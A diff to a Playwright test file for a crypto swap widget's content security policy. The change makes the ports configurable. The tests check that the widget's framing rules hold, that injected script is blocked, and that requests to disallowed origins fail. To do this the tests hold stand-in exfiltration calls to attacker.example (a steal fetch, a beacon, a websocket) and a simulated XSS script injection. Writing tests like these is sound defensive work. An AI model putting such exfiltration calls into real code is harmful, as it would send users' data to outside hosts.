@@ -10,14 +10,18 @@
 import type { Page } from '@playwright/test';
 import { expect, test } from './fixtures';
 import { clearFaults, control, fillSwap, pickRoute, SANDBOX, swapIdFromUrl } from './helpers';
-import { HOST_PAGE, THIRD_ORIGIN, WIDGET_ORIGIN } from './host';
+import { HOST_ORIGIN, HOST_PAGE, THIRD_ORIGIN, WIDGET_ORIGIN } from './host';
 import { createLocalSwap, type LocalRoute } from './local-chains';
 import { LOCAL_CHAIN_PORTS } from './ports';
 import { installEvmTestWallet } from './wallet/evm-wallet';
 
-/** The partner page of the tests (allowed to frame the widget in a loopback build) and another origin. */
-const ALLOWED_HOST = HOST_PAGE;
-const OTHER_HOST = `${THIRD_ORIGIN}/host.html`;
+/**
+ * The partner page of the tests (allowed to frame the widget in a loopback build) and another
+ * origin, each loading the widget of this run (ports move with PORTAGE_PORT_OFFSET).
+ */
+const WIDGET_PARAM = `widget=${encodeURIComponent(`${WIDGET_ORIGIN}/`)}`;
+const ALLOWED_HOST = `${HOST_PAGE}?${WIDGET_PARAM}`;
+const OTHER_HOST = `${THIRD_ORIGIN}/host.html?${WIDGET_PARAM}`;
 
 interface Violation {
   directive: string;
@@ -124,7 +128,7 @@ test('the served page carries the policy as a header and as a meta tag, the same
       expect(source, 'connect-src').toMatch(/^('self'|(https?|wss?):\/\/[a-z0-9.-]+(:(\d+|\*))?)$/);
     // frame-ancestors cannot be a meta (browsers ignore it there): only in the header.
     expect(fromMeta.has('frame-ancestors')).toBe(false);
-    expect(fromHeader.get('frame-ancestors')).toEqual(["'self'", 'http://localhost:4180']);
+    expect(fromHeader.get('frame-ancestors')).toEqual(["'self'", HOST_ORIGIN]);
     // Everything else is the same policy (the preview server also asks for violation reports).
     fromHeader.delete('frame-ancestors');
     fromHeader.delete('report-uri');
@@ -201,7 +205,7 @@ test('script the build did not ship does not run, and requests to origins the po
   await page.goto('/');
   await expect(page.getByRole('button', { name: /^From\b/ })).toBeVisible();
 
-  const outcome = await page.evaluate(async () => {
+  const outcome = await page.evaluate(async (service) => {
     const flags = window as unknown as Record<string, unknown>;
     // An injected inline <script>, as an XSS would add.
     const script = document.createElement('script');
@@ -246,7 +250,7 @@ test('script the build did not ship does not run, and requests to origins the po
     const fetches = {
       internet: await request('https://attacker.example/steal?key=x'),
       otherLoopback: await request('http://[::1]:4180/host.html'),
-      service: await request('http://127.0.0.1:8797/api/v2/health'),
+      service: await request(`${service}/api/v2/health`),
     };
     // A beacon and a websocket (refused without an answer to wait for: see the violations below).
     navigator.sendBeacon('https://attacker.example/beacon', 'x');
@@ -262,7 +266,7 @@ test('script the build did not ship does not run, and requests to origins the po
       baseAfter,
       fetches,
     };
-  });
+  }, SANDBOX);
 
   expect(outcome).toEqual({
     inlineRan: false,
@@ -287,7 +291,7 @@ test('script the build did not ship does not run, and requests to origins the po
       'wss://attacker.example/socket',
     ]),
   );
-  expect(seen.map((v) => v.blocked).join(' ')).not.toContain('8797');
+  expect(seen.map((v) => v.blocked).join(' ')).not.toContain(new URL(SANDBOX).host);
 });
 
 test('a page that is not allowed cannot frame the widget (no confirm button to click), the allowed host page can', async ({
@@ -299,13 +303,13 @@ test('a page that is not allowed cannot frame the widget (no confirm button to c
   });
 
   // http://localhost:4181 mounts the widget exactly as the partner's page does.
-  await page.goto(`${OTHER_HOST}?from=ETHEREUM_MAINNET&fromAsset=ETH&amount=0.5`);
+  await page.goto(`${OTHER_HOST}&from=ETHEREUM_MAINNET&fromAsset=ETH&amount=0.5`);
   await expect(page.locator('#loader-status')).toHaveText('Widget mounted.');
   const iframe = page.locator('#portage iframe');
   await expect(iframe).toHaveAttribute('src', new RegExp(`^${WIDGET_ORIGIN}/`));
   // The browser refuses to render it: the frame holds its error page, never the widget.
   await expect.poll(() => refusals.length).toBeGreaterThan(0);
-  expect(refusals[0]).toContain('http://localhost:4180');
+  expect(refusals[0]).toContain(HOST_ORIGIN);
   await expect.poll(() => page.frames().some((frame) => frame.url().startsWith('chrome-error:'))).toBe(true);
   expect(page.frames().some((frame) => frame.url().startsWith(WIDGET_ORIGIN))).toBe(false);
   await page.waitForTimeout(1_000);
